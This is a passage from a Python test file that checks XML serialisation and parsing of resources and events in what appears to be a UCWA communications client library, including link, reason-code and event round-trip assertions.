    assert b'<property name="joined">2016-09-26T16:20:24.5870000-07:00</property>' in body
    # conversations_ref: <link .../> <property name="rel">conversations</property>, right
    # after the links, on a top-level resource too.
    assert b'<property name="rel">participant</property><property name="local">' in body
    assert b'<property name="n">3</property>' in body
    assert b'<property name="x">True</property>' in build_input({"x": True}, "xml")


def test_xml_event_output_shape() -> None:
    event = Event(
        "completed",
        Link("phoneAudioInvitation", "/i/1"),
        status="Failure",
        reason=Reason("RemoteFailure", "Declined", "declined"),
        in_=Link("participant", "/p/1"),
    )
    events = Events(
        {"self": [Link("self", "/e?ack=1")], "next": [Link("next", "/e?ack=2")]},
        [Sender("communication", "/c", [event])],
    )
    body = build_events(events, "xml").decode()
    assert '<events href="/e?ack=1"' in body
    assert '<link rel="next" href="/e?ack=2" />' in body
    assert '<completed rel="phoneAudioInvitation" href="/i/1" status="Failure">' in body
    assert "<code>RemoteFailure</code><subcode>Declined</subcode>" in body
    parsed = parse(body, "application/vnd.microsoft.com.ucwa+xml")
    assert isinstance(parsed, Events)
    assert parsed.all_events() == [(events.senders[0], event)]
    assert event.resource is None
    with_copy = replace(
        event, embedded={"phoneAudioInvitation": [Resource("phoneAudioInvitation")]}
    )
    assert with_copy.resource == Resource("phoneAudioInvitation")
